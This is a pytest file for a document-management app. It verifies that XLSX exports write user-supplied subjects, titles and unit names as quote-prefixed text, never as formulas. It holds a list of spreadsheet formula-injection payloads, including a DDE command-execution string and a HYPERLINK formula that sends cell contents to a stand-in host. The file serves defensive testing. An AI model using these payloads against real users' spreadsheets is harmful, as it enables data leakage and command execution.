"""Spreadsheet formula injection (issue 11, point 7): text a person or another system chose is
written into every XLSX export as text, never as a formula.

The attack goes through the public API (a registered document's subject and issuer, a task's
title, a unit's name) and the exports are read back twice: with openpyxl (``data_type`` is
``"s"``, the value is the text the API answered) and as raw sheet XML (no ``<f>`` element
anywhere; the cells carry Excel's ``quotePrefix`` style, so editing them keeps them text).
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from docflow import spreadsheets
from tests.app.test_pages import login
from tests.conftest import Demo

PAYLOADS = [
    '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(
            z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")
        )


def _quote_prefixed_styles(data: bytes) -> set[int]:
    """Indexes of the cell styles (cellXfs) that carry quotePrefix="1"."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        styles = z.read("xl/styles.xml").decode("utf-8")
    xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S)
    assert xfs is not None
    return {
        i
        for i, xf in enumerate(re.findall(r"<xf\b[^>]*/?>", xfs.group(1)))
        if 'quotePrefix="1"' in xf
    }


def assert_all_text(data: bytes, expected: list[str]) -> None:
    """Every ``expected`` text is in a string cell, exactly; no formula anywhere in the file."""
    xml = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml, "a formula in the exported sheet"
    prefixed = _quote_prefixed_styles(data)
    cells = {}
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cells.setdefault(cell.value, cell)
    for text in expected:
        assert text in cells, f"{text!r} not exported as is"
        cell = cells[text]
        assert cell.data_type == "s", (text, cell.data_type)
        assert cell.quotePrefix, text
        # The same cell in the XML: a string cell whose style is a quote-prefixed one.
        raw = re.search(rf'<c r="{cell.coordinate}"([^>]*)>', xml)
        assert raw is not None
        assert 't="inlineStr"' in raw.group(1) or 't="s"' in raw.group(1)
        style = re.search(r's="(\d+)"', raw.group(1))
        assert style is not None and int(style.group(1)) in prefixed


def _register(flow: Any, n: int, subject: str, issuer: str) -> dict[str, Any]:
    r = flow.client.post(
        "/api/v1/incoming",
        headers=flow.h("vanthu.tw"),
        data={
            "meta": json.dumps(
                {
                    "notation": f"{n}/CV-UBND",
                    "doc_type": "CV",
                    "subject": subject,
                    "issuer": {"name": issuer},
                    "issued_date": "2026-11-20",
                }
            ),
            "files": [(io.BytesIO(_pdf(n)), "cv.pdf", "application/pdf")],
        },
        content_type="multipart/form-data",
    )
    assert r.status_code == 201, r.get_json()
    body: dict[str, Any] = r.get_json()
    return body


def _pdf(n: int) -> bytes:
    from tests.pdfs import make_pdf

    return make_pdf(title=f"Công văn {n}")


@pytest.fixture
def flow(client: Any, api: Any, demo: Demo) -> Any:
    from tests.incoming.conftest import Incoming

    return Incoming(client, api, demo)


def test_register_export_writes_subjects_and_issuers_as_text(flow: Any) -> None:
    expected = []
    for n, payload in enumerate(PAYLOADS, start=1):
        doc = _register(flow, 100 + n, payload, f"{payload} (nơi gửi)")
        assert doc["subject"].strip() == payload.strip()
        expected += [doc["subject"], doc["issuer"]["name"]]
    r = flow.client.get(
        f"/api/v1/organizations/{flow.demo.org_id('tw')}/registers?direction=incoming",
        headers=flow.h("vanthu.tw"),
    )
    register_id = r.get_json()["items"][0]["id"]
    export = flow.client.get(
        f"/api/v1/reports/registers/{register_id}?format=xlsx", headers=flow.h("vanthu.tw")
    )
    assert export.status_code == 200 and "spreadsheetml" in export.mimetype
    assert_all_text(export.data, expected)


def test_task_list_and_statistics_exports_write_titles_and_unit_names_as_text(
    app: Any, client: Any, api: Any, demo: Demo
) -> None:
    admin = api("admin")
    unit = client.post(
        "/api/v1/units",
        headers=admin,
        json={
            "organization_id": str(demo.org_id("tw")),
            "name": '=HYPERLINK("http://127.0.0.1:9/","Ban")',
            "abbreviation": "=BAN",
        },
    )
    assert unit.status_code == 201, unit.get_json()
    leader = api("lanhdao.tw")
    titles = []
    for i, payload in enumerate(PAYLOADS):
        r = client.post(
            "/api/v1/tasks",
            headers=leader,
            json={
                "title": payload,
                "lead": {"unit_id": unit.get_json()["id"]}
                if i == 0
                else {"user_id": str(demo.user("chuyenvien.dcgs").id)},
                "due_date": "2026-12-04",
            },
        )
        assert r.status_code == 201, r.get_json()
        titles.append(r.get_json()["title"])
    stats = client.get(
        "/api/v1/reports/processing?from=2026-11-01&to=2026-11-30&group_by=unit&format=xlsx",
        headers=leader,
    )
    assert stats.status_code == 200
    assert_all_text(stats.data, [unit.get_json()["name"]])
    page = app.test_client()
    login(page, "lanhdao.tw")
    listing = page.get("/tasks.xlsx?box=all")
    assert listing.status_code == 200
    assert_all_text(listing.data, titles)


@pytest.mark.parametrize("text", [*PAYLOADS, "\n=1+1", "=1+1\x01\x0b"])
def test_the_cell_writer_keeps_the_text_exactly_and_never_a_formula(text: str) -> None:
    """What a peer system may send unstripped (leading tab, CR, LF; control characters XML
    cannot carry, dropped rather than failing the export), in both kinds of worksheet."""
    kept = text.replace("\x01", "").replace("\x0b", "")
    normal = Workbook()
    ws = normal.active
    assert ws is not None
    spreadsheets.put(ws, 1, 1, text)
    spreadsheets.put(ws, 1, 2, 42)
    streamed = Workbook(write_only=True)
    wo = streamed.create_sheet("x")
    wo.append(spreadsheets.row(wo, [text, 42]))
    for book in (normal, streamed):
        out = io.BytesIO()
        book.save(out)
        assert_all_text(out.getvalue(), [kept])
        back = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
        assert back["B1"].value == 42 and back["B1"].data_type == "n"


def test_plain_text_is_not_marked() -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    cell = spreadsheets.put(ws, 1, 1, "Ban Tuyên giáo")
    assert cell.data_type == "s" and not cell.quotePrefix
